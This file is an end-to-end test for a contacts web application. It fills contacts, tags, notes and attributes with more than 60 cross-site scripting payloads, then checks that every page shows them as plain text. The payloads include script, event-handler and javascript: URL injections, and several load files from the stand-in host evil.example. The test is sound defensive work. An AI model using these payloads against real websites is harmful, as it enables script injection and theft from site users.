import { assert, assertEquals } from "@std/assert";
import type { Page } from "playwright-core";
import { createAttribute } from "@/lib/actions/create_attribute.ts";
import { addNote } from "@/lib/actions/add_note.ts";
import { createContact } from "@/lib/actions/create_contact.ts";
import { createTag } from "@/lib/actions/create_tag.ts";
import type { Acting } from "@/lib/actions/deps.ts";
import { setAttribute } from "@/lib/actions/set_attribute.ts";
import { ATTRIBUTE_NAME_CHARS_MAX } from "@/lib/domain/attribute.ts";
import { PHONE_CHARS_MAX } from "@/lib/domain/handle.ts";
import { TAG_NAME_CHARS_MAX } from "@/lib/domain/tag.ts";
import { FEW_CONTACTS, followDuplicates } from "@/lib/store/duplicate_work.ts";
import { aNamed, aTypedAttribute } from "@/tests/support/cast.ts";
import { assertNoProblems, stageTest } from "@/tests/support/stage.ts";

/** Each would call `alert(…)`, load something or add an element named `pwn` where a page forgets to escape. */
const CALL = "alert(document.domain)";
const PAYLOADS: readonly string[] = [
  `<script>${CALL}</script>`,
  `<ScRiPt>${CALL}</sCrIpT>`,
  `<script src=//evil.example/x.js></script>`,
  `</script><script>${CALL}</script>`,
  `</title><script>${CALL}</script>`,
  `</textarea><script>${CALL}</script>`,
  `</style><script>${CALL}</script>`,
  `</option></select><script>${CALL}</script>`,
  `<!--<script>${CALL}//-->`,
  `--><script>${CALL}</script>`,
  `]]><script>${CALL}</script>`,
  `<img src=x onerror=${CALL}>`,
  `<img/src=x/onerror=${CALL}>`,
  `"><img src=x onerror=${CALL}>`,
  `'><img src=x onerror=${CALL}>`,
  `" onmouseover="${CALL}`,
  `' onfocus='${CALL}' autofocus='`,
  `" autofocus onfocus="${CALL}" x="`,
  `x" style="animation-name:x" onanimationstart="${CALL}`,
  `<svg onload=${CALL}>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${CALL}"><text>x</text></a></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${CALL}>`,
  `<body onload=${CALL}>`,
  `<iframe src="javascript:${CALL}"></iframe>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<object data="javascript:${CALL}"></object>`,
  `<embed src="javascript:${CALL}">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<base href="//evil.example/">`,
  `<form action=//evil.example><input name=pwn>`,
  `<button formaction="javascript:${CALL}">x</button>`,
  `<details open ontoggle=${CALL}>`,
  `<video><source onerror=${CALL}></video>`,
  `<audio src=x onerror=${CALL}>`,
  `<marquee onstart=${CALL}>x</marquee>`,
  `<dialog open onclose=${CALL}>x</dialog>`,
  `<template><script>${CALL}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<a href="javascript:${CALL}">x</a>`,
  `<a href="&#106;avascript:${CALL}">x</a>`,
  `javascript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `&#60;script&#62;${CALL}&#60;/script&#62;`,
  `%3Cscript%3E${CALL}%3C/script%3E`,
  `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`,
  `<b id=pwn>bold</b>`,
  `<pwn-element></pwn-element>`,
  `<!--frsh:island:0:0:-->`,
  `<!--/frsh:island--><b id=pwn></b>`,
  `{"__html":"<img src=x onerror=${CALL}>"}`,
  `{{constructor.constructor('${CALL}')()}}`,
  "${" + CALL + "}",
  `';${CALL};//`,
  `");${CALL};//`,
  `\\");${CALL};//`,
  `__proto__`,
  `constructor`,
  `<style>@import '//evil.example/x.css';</style>`,
  `＜script＞${CALL}＜/script＞`,
  `<\u200bscript>${CALL}</script>`,
];

/** Nobody's address, so that each contact is saved; the quotes make the local part a string of RFC 5322. */
function emailOf(at: number): string {
  return `x${at}'onfocus='${CALL.replace(/[^a-z]/g, "")}@example.com`;
}

async function fill(acting: Acting): Promise<void> {
  const tagIds: string[] = [];
  for (const [at, payload] of PAYLOADS.entries()) {
    const name = `${payload.slice(0, TAG_NAME_CHARS_MAX - 3)}${at}`;
    const tag = { color: "red", visibleToAgents: true, inQuickFilter: true };
    tagIds.push((await createTag(acting, { ...tag, name, description: payload.slice(0, 200) })).id);
  }
  for (const [at, payload] of PAYLOADS.entries()) {
    await createContact(acting, {
      name: payload,
      emails: [emailOf(at)],
      phones: [payload.slice(0, PHONE_CHARS_MAX)],
      tagIds: tagIds.slice(at, at + 4),
      language: null,
    });
    await addNote(acting, at + 1, payload);
  }
  await createContact(acting, {
    name: "",
    emails: [],
    phones: PAYLOADS.slice(0, 20).map((payload) => payload.slice(0, PHONE_CHARS_MAX)),
    tagIds,
    language: null,
  });
  await fillAttributes(acting);
  for (const [at, payload] of PAYLOADS.slice(0, 20).entries()) {
    const email = emailOf(at).replace("@", "+again@");
    await createContact(acting, { ...aNamed(payload), emails: [email] });
  }
  await followDuplicates(acting.deps, FEW_CONTACTS);
}

/** Definitions are full of payloads, and every contact has one as its value. */
async function fillAttributes(acting: Acting): Promise<void> {
  for (const [at, payload] of PAYLOADS.slice(0, 20).entries()) {
    const name = `${payload.slice(0, ATTRIBUTE_NAME_CHARS_MAX - 3)}${at}`;
    const about = { name, description: payload.slice(0, 200), patternHint: payload.slice(0, 200) };
    await createAttribute(acting, { ...aTypedAttribute(about), key: `p${at}` });
  }
  const options = PAYLOADS.map((payload) => payload.slice(0, 100)).join("\n");
  const list = aTypedAttribute({ name: "List", type: "list", options });
  await createAttribute(acting, { ...list, key: "list" });
  for (const [at, payload] of PAYLOADS.entries()) {
    await setAttribute(acting, at + 1, { key: `p${at % 20}`, raw: payload, base: "" });
    if (at % 8 > 0) continue;
    await setAttribute(acting, at + 1, { key: "list", raw: payload.slice(0, 100), base: "" });
  }
}

stageTest("stored scripts stay text", { fill }, async ({ step, visit }) => {
  assert(PAYLOADS.length >= 60);

  await step("on every page that shows contacts and tags", async () => {
    const visitor = await visit();
    const { page, open } = visitor;
    const dialogs = watchDialogs(visitor.page);
    const last = PAYLOADS.length + 1;
    const cards = everyOther(PAYLOADS.map((_, at) => `/contacts/${at + 1}`), 0);
    const paths = [
      "/contacts?size=100",
      "/contacts?size=100&sort=name",
      ...cards,
      `/contacts/${last}`,
      ...[0, 13, 51].map((at) => `/contacts/${at + 1}/edit`),
      `/contacts/${last}/edit`,
      ...[0, 13, 51].map((at) => `/contacts/${at + 1}/notes`),
      ...[0, 13, 51].map((at) => `/contacts/${at + 1}/merge?with=${at + 2}`),
      "/contacts/1/merge?find=alert",
      "/contacts/new",
      "/contacts/duplicates",
      "/activity",
      "/activity?kind=settings",
      "/settings/tags",
      "/settings/attributes",
      ...["p0", "p3", "list", "list/delete"].map((page) => `/settings/attributes/${page}`),
      ...["", "/p0", "/list"].map((page) => `/contacts/1/attributes${page}`),
    ];
    for (const path of paths) {
      await open(path);
      assertEquals(await strangers(page), [], path);
    }
    await open("/contacts?size=100");
    const shown = new Set(await page.locator("a[data-row]").allTextContents());
    assert(shown.has(PAYLOADS[0] ?? "") && shown.has(PAYLOADS[11] ?? ""), "shown as typed");
    assertEquals(dialogs, []);
    assertNoProblems(visitor);
    await visitor.context.close();
  });

  await step("in a search, typed and by link, and in what it offers to create", async () => {
    const visitor = await visit();
    const { page, open } = visitor;
    const dialogs = watchDialogs(page);
    for (const payload of everyOther(PAYLOADS, 1)) {
      const query = new URLSearchParams({ q: payload, tag: payload, sort: payload, page: payload });
      await open(`/contacts?${query}`);
      assertEquals(await strangers(page), [], payload);
    }
    for (const payload of PAYLOADS.filter((_, at) => at % 9 === 0)) {
      const query = new URLSearchParams({ find: payload, with: payload, seen: payload });
      await open(`/contacts/1/merge?${query}`);
      assertEquals(await strangers(page), [], payload);
    }
    await open("/contacts");
    for (const payload of PAYLOADS.filter((_, at) => at % 8 === 0)) {
      await page.getByRole("searchbox").fill(`${payload} zzz`);
      await page.getByRole("heading", { name: "Nothing found" }).filter({
        hasText: payload.slice(0, 20),
      })
        .waitFor();
      assertEquals(await strangers(page), [], payload);
    }
    assertEquals(dialogs, []);
    assertNoProblems(visitor);
    await visitor.context.close();
  });

  await step("in a form that comes back, and in the message after a change", async () => {
    const visitor = await visit();
    const { page, open } = visitor;
    const dialogs = watchDialogs(page);
    for (const payload of PAYLOADS.filter((_, at) => at % 7 === 0)) {
      await open("/contacts/new");
      await page.getByLabel("Name").fill(payload);
      await page.getByLabel("E-mail 1").fill(`refused ${payload}`);
      await page.getByLabel("Phone 1").fill(payload);
      await page.getByRole("combobox", { name: "Find or create a tag" }).fill(payload);
      await page.getByRole("listbox").getByRole("option").first().waitFor();
      await page.keyboard.press("Enter");
      await page.getByRole("button", { name: "Create contact" }).last().click();
      await page.locator("#error-summary").waitFor();
      await visitor.ready();
      assertEquals(await strangers(page), [], payload);
    }
    await open("/settings/tags/new");
    await page.getByLabel("Name").fill(`<i id=pwn>${CALL}</i>`);
    await page.getByRole("button", { name: "Create tag" }).click();
    await visitor.told(`Tag “<i id=pwn>${CALL}</i>” created.`);
    assertEquals(await strangers(page), []);
    assertEquals(dialogs, []);
    assertNoProblems(visitor);
    await visitor.context.close();
  });
});

/** Half of them, from the first or from the second on: cards and searches share the work. */
function everyOther(list: readonly string[], from: 0 | 1): string[] {
  return list.filter((_, at) => at % 2 === from);
}

function watchDialogs(page: Page): string[] {
  const seen: string[] = [];
  page.on("dialog", (dialog) => {
    seen.push(dialog.message());
    dialog.dismiss().catch(() => {}); // the page may be gone by then
  });
  return seen;
}

/** Elements and attributes that no page of ours has. */
function strangers(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const known = new Set(
      ("html head meta title link body div a header nav main section article aside footer h1 h2 h3 p span small b i ul ol " +
        "li dl dt dd table caption thead tbody tr th td form fieldset legend label input select option textarea button kbd " +
        "details summary bdi svg use rect g circle path time wbr dialog script ins code").split(
          " ",
        ),
    );
    const found: string[] = [];
    for (const element of document.querySelectorAll("*")) {
      const name = element.localName;
      const scripts = name === "script" && !(element instanceof HTMLElement && element.nonce) &&
        element.getAttribute("type") !== "application/json";
      if (!known.has(name) || scripts || element.id === "pwn") {
        found.push(element.outerHTML.slice(0, 90));
      }
      for (const { name: attribute, value } of element.attributes) {
        const isUrl = ["href", "src", "action", "formaction", "xlink:href"].includes(attribute);
        if (attribute.startsWith("on") || attribute === "style" || attribute === "srcdoc") {
          found.push(`${name} ${attribute}`);
        } else if (isUrl && !/^(\/(?!\/)|mailto:|tel:|#)/.test(value)) {
          found.push(`${name} ${value}`);
        }
      }
    }
    return found;
  });
}
